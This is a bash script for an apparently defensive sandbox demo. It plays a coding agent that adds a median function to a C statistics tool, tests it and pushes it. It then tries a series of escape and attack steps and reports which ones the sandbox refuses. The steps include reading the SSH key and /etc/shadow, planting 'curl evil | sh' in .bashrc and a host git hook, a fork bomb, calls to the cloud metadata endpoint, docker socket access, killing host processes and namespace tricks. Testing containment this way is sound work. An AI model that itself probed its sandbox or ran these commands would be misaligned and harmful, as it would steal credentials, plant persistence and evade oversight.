#!/usr/bin/env bash
# The demo's worker: plays a coding agent. First it does its task in /workspace: a new feature with a test, built, tested
# and committed. Then it misbehaves, as an agent does that read the wrong web page. It reports on stdout, one line each:
#   work<TAB>what was done          try<TAB>what was tried<TAB>refused|DONE<TAB>the reason it got
# Arguments: the host user's home, the repository's path on the host, a process id of the host. A real attacker would
# guess these; here they are told.
set -uo pipefail
home=$1 repository=$2 process=$3
report() { printf '%s\t%s\n' "$1" "$2"; }

sed -i 's|^double deviation.*|&\n/* The middle value, or the mean of the two middle ones. */\ndouble median(const struct numbers *numbers);|' src/statistics.h
sed -i 's|^#include <math.h>|&\n#include <stdlib.h>\n#include <string.h>|' src/statistics.c
cat >>src/statistics.c <<'C'

static int ascending(const void *a, const void *b) {
  double left = *(const double *)a, right = *(const double *)b;
  return (left > right) - (left < right);
}

double median(const struct numbers *numbers) {
  size_t n = numbers->count;
  double *sorted = malloc(n * sizeof *sorted);
  if (!sorted) return NAN;
  memcpy(sorted, numbers->values, n * sizeof *sorted);
  qsort(sorted, n, sizeof *sorted, ascending);
  double middle = n % 2 ? sorted[n / 2] : (sorted[n / 2 - 1] + sorted[n / 2]) / 2;
  free(sorted);
  return middle;
}
C
sed -i 's|    {"mean", mean},|&\n    {"median", median},|; s/sum|mean|deviation/sum\|mean\|median\|deviation/' src/main.c
sed -i 's|^static void bad_lines_are_told|static void median_of_odd_and_even(void) {\n  struct numbers numbers = some((double[]){9, 1, 5}, 3);\n  NEAR(median(\&numbers), 5);\n  if (numbers_add(\&numbers, 6)) abort();\n  NEAR(median(\&numbers), 5.5);\n  numbers_free(\&numbers);\n}\n\n&|; s|^  bad_lines_are_told();|  median_of_odd_and_even();\n&|' tests/check.c
make -s || exit 1
report work "$(make -s check | tail -1)"
report work "summ median of 3 1 2 is $(printf '3\n1\n2\n' | build/summ median)"
git add -A && git commit -q -m 'Add the median' && git push -q
report work "committed and pushed $(git log --format='%h %s' -1)"

# try NAME COMMAND...: the reason is the last line the command said.
try() {
  local name=$1 said
  shift
  if said=$(timeout 20 "$@" 2>&1); then
    printf 'try\t%s\tDONE\t%s\n' "$name" "$(tail -n 1 <<<"$said")"
  else
    said=$(grep -v dmesg <<<"$said" | tail -n 1)
    printf 'try\t%s\trefused\t%s\n' "$name" "${said##*: }"
  fi
}
connect() { exec 3<>"/dev/tcp/$1/$2"; }
raw_socket() { perl -MSocket -e "socket(my \$s, $1, $2, $3) or die \"\$!\n\""; }
# Forks until it can't, then ends its children. Says how far it came.
forks() {
  perl -e 'my @all; while (@all < 20000) { my $p = fork; last unless defined $p; if (!$p) { sleep 60; exit } push @all, $p }
           my $why = "$!"; kill 9, @all; die "$why, after " . @all . " processes\n" if @all < 20000' "$1"
}
export -f connect raw_socket forks

try 'read the ssh key'              cat "$home/.ssh/id_ed25519"
try 'read /etc/shadow'              cat /etc/shadow
try 'write into the home directory' bash -c "echo 'curl evil | sh' >>'$home/.bashrc'"
try 'plant a git hook on the host'  bash -c "echo evil >'$repository/.git/hooks/post-commit'"
try 'write into /usr/bin'           bash -c 'echo evil >/usr/bin/evil'
try 'fork without end'              bash -c "forks forks-of-$process"
try 'call out to 1.1.1.1:443'       bash -c 'connect 1.1.1.1 443'
try 'ask the cloud for credentials' bash -c 'connect 169.254.169.254 80'
try 'open a raw socket'             bash -c 'raw_socket 17 3 768'
try 'talk to the docker socket'     perl -MSocket -e 'socket(my $s, AF_UNIX, SOCK_STREAM, 0); connect($s, sockaddr_un("/var/run/docker.sock")) or die "$!\n"'
try "signal the host's processes"   bash -c "kill -9 $process"
try 'mount a file system'           mount -t tmpfs none /mnt
try 'become root of a namespace'    unshare -Ur true
try 'push to main'                  git push local HEAD:refs/heads/main
